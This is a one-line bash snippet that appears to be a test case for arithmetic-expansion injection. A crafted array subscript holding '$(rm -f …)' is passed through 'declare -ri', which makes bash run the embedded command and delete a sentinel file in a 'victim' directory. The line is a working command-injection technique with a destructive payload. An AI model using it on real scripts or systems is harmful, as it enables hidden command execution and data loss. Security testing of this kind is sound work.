x='a[$(rm -f /srv/rt/s/d1/home/victim/keep-E12)]'; declare -ri n=x
